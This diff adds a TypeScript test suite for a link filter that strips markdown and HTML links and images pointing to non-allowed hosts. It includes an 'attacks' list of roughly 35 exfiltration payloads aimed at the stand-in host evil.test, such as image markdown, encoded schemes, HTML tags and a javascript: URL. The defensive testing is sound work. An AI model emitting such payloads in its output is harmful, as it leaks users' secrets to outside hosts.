@@ -1,0 +1,106 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { filterLinks, linkFilter } from '../../../src/models/foreign-links.ts';
+import { share } from '../../fixtures/share.ts';
+
+const rule = { isAllowed: (host: string) => host === 'ok.example' };
+const sources = ['see https://page.example/a?b=1, and (https://page.example/wiki/X_(y)) or www.page.example/w.'];
+const filtered = (text: string): string => filterLinks(text, rule, sources);
+
+const attacks = [
+  '![p](https://evil.test/?d=SECRET)',
+  '![p]( https://evil.test/?d=SECRET "t")',
+  '![p](<https://evil.test/?d=SECRET>)',
+  '![p](//evil.test/SECRET)',
+  '![p](/\\evil.test/SECRET)',
+  '![p](\\\\evil.test/SECRET)',
+  '![p](https&#58;//evil.test/SECRET)',
+  '![p](https&colon;//evil.test/SECRET)',
+  '![p](https://ok.example@evil.test/SECRET)',
+  '![p](https://user:SECRET@ok.example/)',
+  '![p](https://ok.example.evil.test/SECRET)',
+  '![a [b] c](https://evil.test/SECRET)',
+  '![a\nb](https://evil.test/SECRET)',
+  '[![p](https://evil.test/SECRET)](/home)',
+  '[a](https://evil.test/SECRET)',
+  '[a](HTTPS://EVIL.test/SECRET)',
+  '[a](//evil.test/SECRET)',
+  '[a](javascript:alert("SECRET"))',
+  '[[[[[[[[[[a]]]]]]]]]](//evil.test/SECRET)',
+  '![x][r]\n\n[r]: https://evil.test/SECRET',
+  '![x][r]\n\n[r]: https://page.example/a?b=1SECRET',
+  '[r]:\n  <//evil.test/SECRET>',
+  'go to https://evil.test/SECRET.',
+  'go to https:\\/\\/evil.test\\/SECRET',
+  'www.evil.test/SECRET',
+  '<https://evil.test/SECRET>',
+  '<img src="https://evil.test/SECRET">',
+  '<img alt=">" src=//evil.test/SECRET>',
+  '<IMG\nSRC = "//evil.test/SECRET">',
+  '<a href="/x" style="background:url(//evil.test/SECRET)">a</a>',
+  '<svg><image href=//evil.test/SECRET /></svg>',
+  '<meta http-equiv=refresh content="0;url=//evil.test/SECRET">',
+  `<img alt="${'x'.repeat(3_000)}" src="//evil.test/SECRET">`,
+  `[${'x'.repeat(3_000)}](//evil.test/SECRET)`,
+  `![${'x'.repeat(3_000)}](https://evil.test/SECRET)`,
+  '[a](https://page.example/a?b=1&d=SECRET)',
+  '![a](https://page.example/SECRET)',
+];
+
+const benign = [
+  'Plain words, 1 < 2, a <b> c, Map<string, number>, x[0] and f(x)[1](2).',
+  '![chart](/api/chart.png) and [next](../next#part "title").',
+  '![logo](https://ok.example/logo.png) [docs](https://ok.example/docs) https://ok.example/x.',
+  'See https://page.example/a?b=1, [a](https://page.example/a?b=1) and <https://page.example/a?b=1>.',
+  'See (https://page.example/wiki/X_(y)) and www.page.example/w.',
+  '[x] done\n- [ ] to do\n[note]: a word',
+  '한국어 문장입니다! [표 1] 참고 (http 프로토콜). What? httpd! www',
+  '```ts\nconst a: Array<string> = [];\n```',
+];
+
+describe('filterLinks', () => {
+  it.each(attacks)('removes what would be fetched of %j', (attack) => {
+    const text = filtered(`before ${attack} after`);
+    expect(text).toMatch(/^before [\s\S]* after$/);
+    // what is left has neither a tag nor a destination that is fetched
+    expect(text).not.toMatch(/https?:[\\/]|\]\([^)]*SECRET|<[a-z][^>]*SECRET|www\.evil|\]:\s*\S*SECRET/i);
+  });
+
+  it.each(benign)('leaves %j as it is', (text) => {
+    expect(filtered(text)).toBe(text);
+  });
+
+  it('names the host of what it removes', () => {
+    expect(filtered('![p](https://evil.test/?d=1)')).toBe('[image removed: evil.test]');
+    expect(filtered('[a](https://evil.test/?d=1)')).toBe('a [link removed: evil.test]');
+    expect(filtered('at https://www.evil.test/?d=1.')).toBe('at [link removed: evil.test].');
+    expect(filtered('<img src="https://evil.test/">')).toBe('[html removed]');
+  });
+
+  it('is the same for any pieces of a text', () => {
+    const part = fc.oneof(
+      fc.constantFrom(...attacks, ...benign),
+      fc.constantFrom('[', ']', '(', ')', '!', '<', '>', '"', '\\', ':', '\n\n', 'http', 's://', 'www.', ' '),
+    );
+    fc.assert(
+      fc.property(fc.array(part, { maxLength: 6 }), fc.array(fc.nat(40), { minLength: 1, maxLength: 30 }), (parts, sizes) => {
+        const text = parts.join('');
+        const filter = linkFilter(rule, sources);
+        let shown = '';
+        for (let at = 0, n = 0; at < text.length; n++) {
+          const size = (sizes[n % sizes.length] ?? 0) + 1;
+          shown += filter.push(text.slice(at, at + size));
+          at += size;
+        }
+        expect(shown + filter.end()).toBe(filtered(text));
+      }),
+      { numRuns: share(4_000) },
+    );
+  });
+
+  it('holds no prose back', () => {
+    const filter = linkFilter(rule, sources);
+    expect(filter.push('A sentence that ends here. ')).toBe('A sentence that ends here. ');
+    expect(filter.push('See [a')).toBe('See ');
+  });
+});
